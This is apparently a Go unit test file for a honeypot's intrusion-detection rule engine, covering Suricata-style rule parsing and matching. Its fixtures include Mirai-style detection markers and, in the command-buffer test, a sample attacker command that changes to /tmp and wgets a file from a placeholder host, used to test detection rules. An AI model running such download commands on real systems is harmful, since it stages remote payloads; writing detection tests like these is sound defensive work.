package rules

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/honeyscope/honeyscope/internal/decode"
)

var (
	tSrc = netip.MustParseAddr("198.51.100.7")
	tDst = netip.MustParseAddr("192.168.1.10")
)

// tcp returns an established TCP segment to port 80 carrying payload.
func tcp(payload string) *decode.Packet {
	return &decode.Packet{Src: tSrc, Dst: tDst, Proto: decode.ProtoTCP, HasTransport: true, SrcPort: 40000, DstPort: 80,
		TCPFlags: decode.TCPAck | decode.TCPPsh, Payload: []byte(payload)}
}

// engineOf compiles rule lines (sids must differ), failing on any rule
// that does not load.
func engineOf(t testing.TB, lines ...string) *Engine {
	t.Helper()
	s := NewSet(Options{})
	if err := s.Add(strings.NewReader(strings.Join(lines, "\n")), "test.rules"); err != nil {
		t.Fatal(err)
	}
	if len(s.Unsupported) > 0 {
		t.Fatalf("unsupported: %v", s.Unsupported)
	}
	e, err := Compile(s)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func rule(opts string) string {
	return `alert tcp any any -> any any (msg:"t"; ` + opts + ` sid:1; rev:1;)`
}

func TestContentSemantics(t *testing.T) {
	tests := []struct {
		opts, payload string
		want          bool
	}{
		{`content:"abc";`, "xxabcxx", true},
		{`content:"abc";`, "xxABCxx", false},
		{`content:"abc"; nocase;`, "xxABCxx", true},
		{`content:"|61 62|c";`, "abc", true},
		{`content:!"abc";`, "xyz", true},
		{`content:!"abc";`, "xabc", false},
		{`content:"abc"; depth:3;`, "abcx", true},
		{`content:"abc"; depth:3;`, "xabc", false},
		{`content:"abc"; offset:1; depth:3;`, "xabc", true},
		{`content:"abc"; offset:2;`, "xabc", false},
		{`content:"abc"; startswith;`, "abcx", true},
		{`content:"abc"; startswith;`, "xabc", false},
		{`content:"abc"; endswith;`, "xabc", true},
		{`content:"abc"; endswith;`, "abcx", false},
		{`content:"a"; content:"b"; distance:0;`, "ab", true},
		{`content:"a"; content:"b"; distance:0;`, "ba", false},
		{`content:"a"; content:"b"; distance:1;`, "ab", false},
		{`content:"a"; content:"b"; distance:1;`, "axb", true},
		{`content:"a"; content:"b"; within:1;`, "ab", true},
		{`content:"a"; content:"b"; within:1;`, "axb", false},
		{`content:"a"; content:"b"; distance:1; within:1;`, "axb", true},
		{`content:"b"; content:"a"; distance:-2; within:1;`, "ab", true},
		// Backtracking: the second "a" is the one followed by "c".
		{`content:"a"; content:"c"; within:1;`, "abac", true},
		{`content:"a"; isdataat:2,relative;`, "abc", true},
		{`content:"a"; isdataat:2,relative;`, "ab", false},
		{`content:"a"; isdataat:!1,relative;`, "a", true},
		{`dsize:3;`, "abc", true},
		{`dsize:>3;`, "abc", false},
		{`dsize:2<>4;`, "abc", true},
		{`content:"GET"; bsize:3;`, "GET", true},
		{`content:"GET"; bsize:3;`, "GETX", false},
		{`content:"x"; byte_test:2,=,0x4142,0,relative;`, "xAB", true},
		{`content:"x"; byte_test:2,>,0x4142,0,relative;`, "xAB", false},
		{`content:"x"; byte_test:3,=,123,0,relative,string,dec;`, "x123", true},
		{`content:"x"; byte_test:1,&,1,0,relative;`, "x\x03", true},
		{`content:"x"; byte_jump:1,0,relative; content:"z"; within:1;`, "x\x02abz", true},
		{`content:"x"; byte_jump:1,0,relative; content:"z"; within:1;`, "x\x01abz", false},
		{`content:"x"; byte_jump:2,0,relative,little; content:"z"; within:1;`, "x\x01\x00az", true},
		{`pcre:"/a[0-9]+b/";`, "xa123b", true},
		{`pcre:"/^a/";`, "xa", false},
		{`pcre:"/A/i";`, "a", true},
		{`pcre:!"/a/";`, "b", true},
		{`content:"x"; pcre:"/^y/R";`, "xy", true},
		{`content:"x"; pcre:"/^y/R";`, "xzy", false},
		{`pcre:"/\xff\x00/";`, "a\xff\x00", true},
		{`pcre:"/\xff/";`, "\xc3\xbf", false},
		{`pcre:"/a.b/s";`, "a\nb", true},
		{`pcre:"/a.b/";`, "a\nb", false},
		{`pcre:"/a b # c/x";`, "ab", true},
		{`pcre:"/ab$/";`, "ab\n", true},
		{`pcre:"/ab$/E";`, "ab\n", false},
		{`pcre:"/a+?/G";`, "a", true},
		{`content:"a"; pcre:"/b/R"; content:"c"; distance:0;`, "abc", true},
		{`content:"a"; pcre:"/b/R"; content:"c"; distance:0;`, "acb", false},
	}
	for _, tt := range tests {
		e := engineOf(t, rule(tt.opts))
		got := len(NewMatcher(e).Packet(tcp(tt.payload), nil, nil)) > 0
		if got != tt.want {
			t.Errorf("%s on %q: match %v, want %v", tt.opts, tt.payload, got, tt.want)
		}
	}
}

func TestHeaderAndFlow(t *testing.T) {
	syn := &decode.Packet{Src: tSrc, Dst: tDst, Proto: decode.ProtoTCP, HasTransport: true, SrcPort: 40000, DstPort: 23, TCPFlags: decode.TCPSyn}
	data := tcp("x")
	data.DstPort = 23
	udp := &decode.Packet{Src: tSrc, Dst: tDst, Proto: decode.ProtoUDP, HasTransport: true, SrcPort: 5000, DstPort: 53, Payload: []byte("x")}
	tests := []struct {
		rule string
		p    *decode.Packet
		ctx  *Context
		want bool
	}{
		{`alert tcp any any -> any 23 (msg:"t"; flags:S; sid:1;)`, syn, nil, true},
		{`alert tcp any any -> any 23 (msg:"t"; flags:S; flow:established; sid:1;)`, syn, nil, false},
		{`alert tcp any any -> any 23 (msg:"t"; flow:not_established; sid:1;)`, syn, nil, true},
		{`alert tcp any any -> any 23 (msg:"t"; flow:established,to_server; content:"x"; sid:1;)`, data, nil, true},
		{`alert tcp any any -> any 23 (msg:"t"; flow:to_client; content:"x"; sid:1;)`, data, nil, false},
		{`alert tcp any any -> any 23 (msg:"t"; flow:to_client; content:"x"; sid:1;)`, data, &Context{Dir: DirToClient}, true},
		{`alert tcp any any -> any 23 (msg:"t"; flags:!S; content:"x"; sid:1;)`, data, nil, true},
		{`alert tcp any any -> any 23 (msg:"t"; flags:SA,12; sid:1;)`, syn, nil, false},
		{`alert tcp any any -> any 23 (msg:"t"; flags:*SA; sid:1;)`, syn, nil, true},
		{`alert tcp any any -> any 23 (msg:"t"; flags:0; sid:1;)`, syn, nil, false},
		{`alert udp any any -> any 53 (msg:"t"; flow:established; content:"x"; sid:1;)`, udp, nil, false},
		{`alert udp any any -> any 53 (msg:"t"; content:"x"; sid:1;)`, udp, nil, true},
		{`alert tcp any any -> any 53 (msg:"t"; content:"x"; sid:1;)`, udp, nil, false},
		{`alert ip any any -> any any (msg:"t"; content:"x"; sid:1;)`, udp, nil, true},
		{`alert tcp $EXTERNAL_NET any -> $HOME_NET 23 (msg:"t"; content:"x"; sid:1;)`, data, nil, true},
		{`alert tcp $HOME_NET any -> $EXTERNAL_NET 23 (msg:"t"; content:"x"; sid:1;)`, data, nil, false},
		{`alert tcp $HOME_NET any <> $EXTERNAL_NET any (msg:"t"; content:"x"; sid:1;)`, data, nil, true},
		{`alert tcp any any -> [192.168.0.0/16,!192.168.1.10] any (msg:"t"; content:"x"; sid:1;)`, data, nil, false},
		{`alert tcp any any -> any [1:100,!80] (msg:"t"; content:"x"; sid:1;)`, data, nil, true},
		{`alert tcp any any -> any ![20:30] (msg:"t"; content:"x"; sid:1;)`, data, nil, false},
		{`alert tcp any !40000 -> any any (msg:"t"; content:"x"; sid:1;)`, data, nil, false},
		{`alert tcp any any -> any $HTTP_PORTS (msg:"t"; content:"x"; sid:1;)`, data, nil, false},
		{`pass tcp any any -> any any (msg:"t"; content:"x"; sid:1;)`, data, nil, false},
	}
	for _, tt := range tests {
		e := engineOf(t, tt.rule)
		got := len(NewMatcher(e).Packet(tt.p, tt.ctx, nil)) > 0
		if got != tt.want {
			t.Errorf("%s: match %v, want %v", tt.rule, got, tt.want)
		}
	}
	// A pass rule suppresses the alerts of the same packet.
	e := engineOf(t, `pass tcp any any -> any any (msg:"p"; content:"x"; sid:1;)`, `alert tcp any any -> any any (msg:"a"; content:"x"; sid:2;)`)
	if as := NewMatcher(e).Packet(data, nil, nil); len(as) != 0 {
		t.Errorf("pass rule did not suppress: %v", as)
	}
}

func TestHTTPBuffers(t *testing.T) {
	req := "POST /a/./b/../c//d%2ex?q=%41 HTTP/1.1\r\nHost: Example.COM:8080\r\nUser-Agent: Hello, world\r\nCookie: s=1\r\nContent-Type: text/x\r\n\r\nbody=1"
	tests := []struct {
		opts string
		want bool
	}{
		{`http.method; content:"POST"; bsize:4;`, true},
		{`http.uri; content:"/a/c/d.x?q=A"; bsize:12;`, true},
		{`http.uri.raw; content:"/a/./b/../c//d%2ex?q=%41"; startswith; endswith;`, true},
		{`urilen:12;`, true},
		{`urilen:24,raw;`, true},
		{`http.host; content:"example.com"; bsize:11;`, true},
		{`http.host.raw; content:"Example.COM:8080";`, true},
		{`http.user_agent; content:"Hello, world"; startswith; endswith;`, true},
		{`http.cookie; content:"s=1";`, true},
		{`http.content_type; content:"text/x";`, true},
		{`http.request_body; content:"body=1"; startswith;`, true},
		{`file.data; content:"body=1";`, true},
		{`http.header; content:"User-Agent|3a| Hello, world|0d 0a|";`, true},
		{`http.header; content:"|0d 0a 0d 0a|"; endswith;`, true},
		{`http.header_names; content:"|0d 0a|Host|0d 0a|User-Agent|0d 0a|";`, true},
		{`http.header_names; content:!"Referer";`, true},
		{`http.header_names; content:!"Cookie";`, false},
		{`http.request_line; content:"POST /a"; startswith; content:"HTTP/1.1"; endswith;`, true},
		{`http.protocol; content:"HTTP/1.1";`, true},
		{`http.start; content:"body"; `, false},
		{`content:"Hello"; http_user_agent; content:"POST"; http_method;`, true},
		{`content:"Hello"; http_uri;`, false},
		{`pcre:"/^\/a\/c/U";`, true},
		{`pcre:"/^Hello, World$/Vi";`, true},
		{`http.stat_code; content:"200";`, false},
	}
	for _, tt := range tests {
		e := engineOf(t, `alert http any any -> any any (msg:"t"; `+tt.opts+` sid:1;)`)
		got := len(NewMatcher(e).Packet(tcp(req), nil, nil)) > 0
		if got != tt.want {
			t.Errorf("%s: match %v, want %v", tt.opts, got, tt.want)
		}
	}
	// Responses: status line buffers and file.data to_client.
	resp := "HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.9\r\n\r\n<html>"
	e := engineOf(t,
		`alert http any any -> any any (msg:"t"; flow:to_client; http.stat_code; content:"200"; http.server; content:"Python/"; file.data; content:"<html>"; startswith; sid:1;)`)
	if as := NewMatcher(e).Packet(tcp(resp), &Context{Dir: DirToClient}, nil); len(as) != 1 {
		t.Errorf("response rule: %v", as)
	}
	// The honeypot's recorded request matches like the packet.
	e = engineOf(t, `alert http any any -> any any (msg:"t"; flow:established,to_server; http.uri; content:"/a/c/d.x"; http.user_agent; content:"Hello, world"; http.request_body; content:"body=1"; sid:1;)`)
	hr := &HTTPRequest{Method: "POST", URI: "/a/./b/../c//d%2ex?q=%41", Headers: "Host: example.com\nUser-Agent: Hello, world\n", Body: []byte("body=1")}
	if as := NewMatcher(e).HTTP(hr, nil, nil); len(as) != 1 {
		t.Errorf("HTTP(): %v", as)
	}
}

func TestFlowbitsAndThresholds(t *testing.T) {
	e := engineOf(t,
		`alert tcp any any -> any any (msg:"set"; content:"/bin/busybox"; flowbits:set,bb; flowbits:noalert; sid:1;)`,
		`alert tcp any any -> any any (msg:"isset"; content:"MIRAI"; flowbits:isset,bb; sid:2;)`,
		`alert tcp any any -> any any (msg:"limit"; content:"L"; threshold:type limit, track by_src, count 2, seconds 60; sid:3;)`,
		`alert tcp any any -> any any (msg:"df"; content:"D"; detection_filter:track by_dst, count 2, seconds 60; sid:4;)`,
		`alert tcp any any -> any any (msg:"unset"; content:"U"; flowbits:unset,bb; sid:5;)`)
	m := NewMatcher(e)
	st := NewState(16, 16)
	sids := func(as []Alert) (out []uint32) {
		for _, a := range as {
			out = append(out, e.Rules()[a.Rule].SID)
		}
		return
	}
	ctx := &Context{State: st, Flow: 7}
	if got := sids(m.Packet(tcp("MIRAI"), ctx, nil)); len(got) != 0 {
		t.Errorf("isset before set: %v", got)
	}
	if got := sids(m.Packet(tcp("/bin/busybox"), ctx, nil)); len(got) != 0 {
		t.Errorf("noalert setter alerted: %v", got)
	}
	if got := sids(m.Packet(tcp("MIRAI"), ctx, nil)); len(got) != 1 || got[0] != 2 {
		t.Errorf("isset after set: %v", got)
	}
	if got := sids(m.Packet(tcp("MIRAI"), &Context{State: st, Flow: 8}, nil)); len(got) != 0 {
		t.Errorf("flowbit leaked to another flow: %v", got)
	}
	m.Packet(tcp("U"), ctx, nil)
	if got := sids(m.Packet(tcp("MIRAI"), ctx, nil)); len(got) != 0 {
		t.Errorf("isset after unset: %v", got)
	}
	// Set and check in one packet: setters are evaluated first.
	if got := sids(m.Packet(tcp("/bin/busybox MIRAI"), &Context{}, nil)); len(got) != 1 || got[0] != 2 {
		t.Errorf("set and isset in one packet: %v", got)
	}
	var limit, df []int
	for i := 0; i < 5; i++ {
		ctx := &Context{State: st, Time: int64(i) * 1e9}
		limit = append(limit, len(m.Packet(tcp("L"), ctx, nil)))
		df = append(df, len(m.Packet(tcp("D"), ctx, nil)))
	}
	if want := []int{1, 1, 0, 0, 0}; !equalInts(limit, want) {
		t.Errorf("threshold limit 2: %v, want %v", limit, want)
	}
	if want := []int{0, 0, 1, 1, 1}; !equalInts(df, want) {
		t.Errorf("detection_filter count 2: %v, want %v", df, want)
	}
	// A new window alerts again.
	if n := len(m.Packet(tcp("L"), &Context{State: st, Time: 61e9}, nil)); n != 1 {
		t.Errorf("limit in a new window: %d alerts", n)
	}
}

func equalInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestStateBounded(t *testing.T) {
	e := engineOf(t, `alert tcp any any -> any any (msg:"set"; content:"S"; flowbits:set,b; sid:1;)`,
		`alert tcp any any -> any any (msg:"is"; content:"I"; flowbits:isset,b; sid:2;)`)
	m := NewMatcher(e)
	st := NewState(16, 16)
	for f := uint64(1); f <= 100000; f++ {
		m.Packet(tcp("S"), &Context{State: st, Flow: f}, nil)
	}
	if len(st.flows) != 16 {
		t.Fatalf("flow table grew to %d", len(st.flows))
	}
	// The most recent flow keeps its bit; the first was evicted.
	if n := len(m.Packet(tcp("I"), &Context{State: st, Flow: 100000}, nil)); n != 1 {
		t.Errorf("recent flow lost its bit")
	}
	if n := len(m.Packet(tcp("I"), &Context{State: st, Flow: 1}, nil)); n != 0 {
		t.Errorf("evicted flow kept its bit")
	}
}

func TestCommandBuffer(t *testing.T) {
	e := engineOf(t, `alert tcp any any -> any any (msg:"c"; honeyscope.cmdline; content:"wget "; pcre:"/wget https?:\/\//"; sid:1;)`,
		`alert tcp any any -> any any (msg:"p"; content:"wget "; sid:2;)`)
	m := NewMatcher(e)
	as := m.Command("cd /tmp; wget http://192.0.2.1/x", nil, nil)
	if len(as) != 1 || e.Rules()[as[0].Rule].SID != 1 {
		t.Errorf("Command: %v, want only the cmdline rule", as)
	}
	if as := m.Packet(tcp("wget http://192.0.2.1/x"), nil, nil); len(as) != 1 || e.Rules()[as[0].Rule].SID != 2 {
		t.Errorf("Packet: %v, want only the payload rule", as)
	}
}

func TestUnsupportedReasons(t *testing.T) {
	tests := []struct{ rule, reason string }{
		{rule(`pcre:"/(a)\1/";`), `backreference \1`},
		{rule(`pcre:"/a(?=b)/";`), "lookahead"},
		{rule(`pcre:"/(?<=a)b/";`), "lookbehind"},
		{rule(`pcre:"/(?>a)/";`), "atomic"},
		{rule(`pcre:"/a++/";`), "possessive"},
		{rule(`pcre:"/\Ga/";`), `\G`},
		{rule(`pcre:"/(a|(?R))/";`), "recursion"},
		{rule(`pcre:"/a{2000}/";`), "1000"},
		{rule(`pcre:"/a/J";`), "flag"},
		{rule(`tls.cert_subject; content:"x";`), "tls.cert_subject"},
		{rule(`byte_extract:2,0,len; content:"x";`), "byte_extract"},
		{rule(`content:"x"; depth:len;`), "byte_extract"},
		{rule(`content:"abc"; depth:2;`), "depth"},
		{rule(`content:"a"; offset:1; distance:1;`), "offset"},
		{rule(`content:"|4|";`), "hex"},
		{rule(`foo:bar;`), "keyword foo"},
		{`alert smtp any any -> any any (msg:"x"; sid:1;)`, "protocol smtp"},
		{`alert tcp any any -> any any (msg:"x"; content:"a";)`, "no sid"},
		{`alert tcp any any => any any (msg:"x"; sid:1;)`, "direction"},
		{`alert tcp $NOPE any -> any any (msg:"x"; sid:1;)`, "undefined variable $NOPE"},
		{`alert tcp any 99999 -> any any (msg:"x"; sid:1;)`, "port"},
		{`alert tcp [1.2.3.4 any -> any any (msg:"x"; sid:1;)`, "header"},
		{rule(`content:"abc`), "quoted"},
	}
	for _, tt := range tests {
		_, err := Parse(tt.rule, nil)
		if err == nil {
			t.Errorf("%s: loaded, want unsupported (%s)", tt.rule, tt.reason)
			continue
		}
		if !strings.Contains(err.Error(), tt.reason) {
			t.Errorf("%s: reason %q, want it to mention %q", tt.rule, err, tt.reason)
		}
	}
	// Every error names the sid once the sid was read.
	_, err := Parse(rule(`pcre:"/a(?=b)/";`), nil)
	if !strings.HasPrefix(err.Error(), "sid 1: ") {
		t.Errorf("error %q does not start with the sid", err)
	}
}

func TestSetDuplicatesAndContinuation(t *testing.T) {
	s := NewSet(Options{})
	text := "# comment\n" +
		rule(`content:"a";`) + "\n" +
		`alert tcp any any -> any any (msg:"t"; \` + "\n" + `content:"b"; sid:2; rev:1;)` + "\n" +
		`alert tcp any any -> any any (msg:"t"; content:"c"; sid:1; rev:3;)` + "\n" +
		`alert tcp any any -> any any (msg:"t"; content:"d"; sid:1; rev:2;)` + "\n" +
		"#alert tcp any any -> any any (msg:\"off\"; sid:9;)\n"
	if err := s.Add(strings.NewReader(text), "x.rules"); err != nil {
		t.Fatal(err)
	}
	if len(s.Rules) != 2 || s.Rules[0].Rev != 3 || s.Rules[1].SID != 2 || s.Rules[1].Line != 3 {
		t.Fatalf("rules: %+v", s.Rules)
	}
	if len(s.Unsupported) != 2 || s.Disabled != 1 {
		t.Fatalf("unsupported %v, disabled %d", s.Unsupported, s.Disabled)
	}
}
